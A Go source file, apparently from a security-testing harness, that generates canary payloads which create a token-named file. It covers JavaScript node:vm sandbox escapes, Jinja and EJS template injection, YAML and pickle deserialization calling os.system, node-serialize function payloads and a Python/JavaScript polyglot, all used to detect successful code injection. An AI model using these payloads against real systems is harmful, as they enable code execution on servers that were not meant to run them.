package oracle

import (
	"encoding/base64"
	"strings"

	"github.com/coalmine-dev/coalmine/sandbox/session"
)

// javaScript is an expression that makes a file of the token's name, also within
// a module and within a context of node:vm.
func javaScript(token string) string {
	a, b := halves(token)
	return "(p=>(p.getBuiltinModule?p.getBuiltinModule('fs'):p.mainModule.require('fs')).writeFileSync('" + a + "'+'" + b + "',''))" +
		"(globalThis.process||this.constructor.constructor('return process')())"
}

// python is an expression that makes a file of the token's name; 65 is
// O_CREAT and O_WRONLY.
func python(token string) string {
	a, b := halves(token)
	return "__import__('os').open('" + a + "'+'" + b + "',65)"
}

// bothLanguages is an expression of Python as well as of JavaScript that makes a file of the
// token's name: what divides in Python begins a comment in JavaScript, whose part stands in a text
// of Python's. It may stand in parentheses, behind "return", and for a whole program.
func bothLanguages(token string) string {
	return "1 // (" + python(token) + " + 9) or \"\"\"\n, " + javaScript(token) + "\n// \"\"\"\n"
}

// doubled is code whose texts stand in double quotes.
func doubled(code string) string { return strings.ReplaceAll(code, "'", `"`) }

func codes() []variant {
	var out []variant
	add := func(context string, text func(token string) string) {
		out = append(out, variant{oracle: session.OracleCode, context: context, after: false, make: func(_ *World, token string) (string, File) { return text(token), File{} }})
	}
	add("JavaScript", javaScript)
	add("Python", python)
	add("JavaScript in braces", func(t string) string { return "${" + javaScript(t) + "}" })
	add("Python template", func(t string) string {
		a, b := halves(t)
		return "{{ cycler.__init__.__globals__['os'].open('" + a + "'~'" + b + "',65) }}"
	})
	add("JavaScript template", func(t string) string {
		return `{{range.constructor("return ` + strings.ReplaceAll(javaScript(t), `"`, `'`) + `")()}}`
	})
	add("embedded JavaScript", func(t string) string { return "<%= " + javaScript(t) + " %>" })
	add("YAML, Python object", func(t string) string { return `!!python/object/apply:os.system ["` + touch(t) + `"]` })
	add("pickle", func(t string) string {
		return base64.StdEncoding.EncodeToString([]byte("cos\nsystem\n(S'" + touch(t) + "'\ntR."))
	})
	add("JavaScript in a text", func(t string) string { return `x'+` + javaScript(t) + `+'` })
	add("JavaScript in a quoted text", func(t string) string { return `x"+` + javaScript(t) + `+"` })
	add("Python in a text", func(t string) string { return `x'+str(` + python(t) + `)+'` })
	add("Python in a quoted text", func(t string) string { return `x"+str(` + doubled(python(t)) + `)+"` })
	add("Python in braces", func(t string) string { return "{" + doubled(python(t)) + "}" })
	add("Python template, plain", func(t string) string { return "${" + python(t) + "}" })
	add("JavaScript template, doubled braces", func(t string) string { return "{{" + javaScript(t) + "}}" })
	add("YAML, JavaScript function", func(t string) string {
		return `{toString: !!js/function "function(){return ` + javaScript(t) + `}"}`
	})
	add("serialized function", func(t string) string {
		return `{"x":"_$$ND_FUNC$$_function(){return ` + javaScript(t) + `}()"}`
	})
	return append(out, variant{
		oracle: session.OracleCode, context: "Python format string", fill: formatString, shows: formatted,
		make: func(_ *World, token string) (string, File) { return formatString("", "", token), File{} },
	})
}

var variants = func() []variant {
	out := append(commands(), arguments()...)
	out = append(append(out, paths()...), fetches()...)
	return append(out, codes()...)
}()
